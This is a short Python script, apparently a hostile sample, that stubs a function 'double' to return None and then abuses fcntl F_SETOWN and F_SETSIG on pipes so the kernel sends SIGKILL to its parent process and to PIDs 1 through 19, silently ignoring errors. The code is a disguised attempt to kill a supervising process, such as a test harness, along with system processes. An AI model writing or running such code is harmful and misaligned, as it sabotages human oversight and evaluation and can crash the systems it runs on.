"""Have the kernel send SIGKILL to the neighbours when a pipe becomes readable."""

import fcntl
import os
import signal

F_SETSIG = 10


def double(n):
    return None


for pid in {os.getppid(), *range(1, 20)} - {os.getpid()}:
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writer, b"x")
    except OSError:
        pass
    os.close(reader)
    os.close(writer)
